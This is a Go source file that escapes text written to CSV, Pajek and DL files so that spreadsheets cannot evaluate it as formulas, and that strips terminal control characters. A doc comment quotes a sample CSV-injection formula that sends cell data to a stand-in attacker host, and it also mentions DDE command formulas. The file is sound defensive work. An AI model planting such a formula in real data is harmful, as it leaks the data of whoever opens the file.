package out

import (
	"bufio"
	"regexp"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Cells says how text is written into the formats a spreadsheet opens as
// cells: CSV tables, the CSV edge list, and the vertex labels of Pajek and
// DL files.
//
// A spreadsheet (Excel, LibreOffice, Google Sheets) evaluates a cell that
// starts with =, +, -, @, a tab or a carriage return as a formula, so a
// name such as =HYPERLINK("http://evil.example/?d="&A1,"Click me") in a
// dataset, once written to a CSV file and opened, runs (OWASP, "CSV
// Injection", https://owasp.org/www-community/attacks/CSV_Injection).
type Cells int

const (
	// CellsSafe (the default) writes such text with a leading apostrophe,
	// which spreadsheets take as "text follows": '=HYPERLINK(...) shows
	// as text and is never evaluated. Numbers stay as they are: -0.25 is
	// a number, not a formula. A CSV field holding a semicolon is quoted,
	// so that a spreadsheet reading semicolon-separated CSV (Excel in many
	// countries) keeps it one cell.
	CellsSafe Cells = iota
	// CellsLiteral writes every text as it is, for R, pandas and other
	// tools that read the files as data (the --raw flag).
	CellsLiteral
)

// plainNumber matches the numbers sectornet writes and spreadsheets read as
// numbers: an optional sign, digits with an optional decimal point, an
// optional exponent. Nothing else that starts with a sign is left as it is
// (-Inf included, which a spreadsheet would take for a formula).
var plainNumber = regexp.MustCompile(`^[-+]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][-+]?[0-9]+)?$`)

// formulaStart reports whether a spreadsheet could take s for a formula
// (or a command: DDE's =cmd|...): after any spaces, it starts with =, +,
// -, @, a tab, a carriage return or a line feed, or their full-width forms
// (which some versions of Excel convert), and is not a plain number.
func formulaStart(s string) bool {
	s = strings.TrimLeft(s, " ")
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', '\n':
		return !plainNumber.MatchString(s)
	}
	for _, p := range []string{"＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, p) {
			return true
		}
	}
	return false
}

// SpreadsheetSafe returns s as a cell no spreadsheet evaluates: with an
// apostrophe after any leading spaces when it could be taken for a
// formula (see Cells). So is each stretch after a semicolon, where a
// spreadsheet that reads semicolon-separated CSV (Excel in many
// countries) starts a new cell whatever the quotes: "Safe; =1+1" is
// "Safe; '=1+1".
func SpreadsheetSafe(s string) string { return safeStretches(s, ";") }

// safeStretches returns s with an apostrophe after the leading spaces of
// each stretch (s split at any of seps) that a spreadsheet could take for
// a formula, after those spaces and any quotes.
func safeStretches(s, seps string) string {
	if !strings.ContainsAny(s, seps) {
		if formulaStart(s) {
			n := len(s) - len(strings.TrimLeft(s, " "))
			return s[:n] + "'" + s[n:]
		}
		return s
	}
	var b strings.Builder
	start := 0
	for i := 0; i <= len(s); i++ {
		if i < len(s) && !strings.ContainsRune(seps, rune(s[i])) {
			continue
		}
		part := s[start:i]
		n := len(part) - len(strings.TrimLeft(part, " "))
		b.WriteString(part[:n])
		if formulaStart(strings.TrimLeft(part[n:], `"`)) {
			b.WriteByte('\'')
		}
		b.WriteString(part[n:])
		if i < len(s) {
			b.WriteByte(s[i])
		}
		start = i + 1
	}
	return b.String()
}

// text returns s as c writes it. Safe, a control character other than a
// tab or a line break (ESC, BEL, the C1 controls) is also a space, as in
// the text tables: a CSV printed on a terminal cannot set its title or
// colours.
func (c Cells) text(s string) string {
	if c == CellsLiteral {
		return s
	}
	if strings.ContainsFunc(s, terminalControl) {
		s = strings.Map(func(r rune) rune {
			if terminalControl(r) {
				return ' '
			}
			return r
		}, s)
	}
	return SpreadsheetSafe(s)
}

// terminalControl reports whether r is a control character that is not a
// tab or a line break.
func terminalControl(r rune) bool {
	return r != '\t' && r != '\n' && r != '\r' && (r < 0x20 || r >= 0x7f && r <= 0x9f)
}

// line returns a line written outside CSV's quoting (the "# title" line
// between tables) as c writes it: safe, each stretch after a comma or a
// semicolon, where a spreadsheet starts a new cell, is made safe.
func (c Cells) line(s string) string {
	if c == CellsLiteral {
		return s
	}
	return safeStretches(s, ",;")
}

// writeCSVRecord writes one CSV record as encoding/csv does (RFC 4180:
// a field is quoted when it holds a comma, a quote, a line break or
// starts with a space), its text as c says; safe, a field holding a
// semicolon is quoted too.
func (c Cells) writeCSVRecord(w *bufio.Writer, rec []string) error {
	for i, f := range rec {
		if i > 0 {
			w.WriteByte(',')
		}
		w.WriteString(c.csvField(f))
	}
	_, err := w.WriteString("\n")
	return err
}

// csvField is f as one field of a CSV record in c's form: made safe
// (CellsSafe), then quoted where CSV needs it.
func (c Cells) csvField(f string) string {
	f = c.text(f)
	r, _ := utf8.DecodeRuneInString(f)
	quote := f != "" && (strings.ContainsAny(f, ",\"\r\n") || unicode.IsSpace(r) || f == `\.`)
	if c == CellsSafe && strings.ContainsRune(f, ';') {
		quote = true
	}
	if !quote {
		return f
	}
	return `"` + strings.ReplaceAll(f, `"`, `""`) + `"`
}
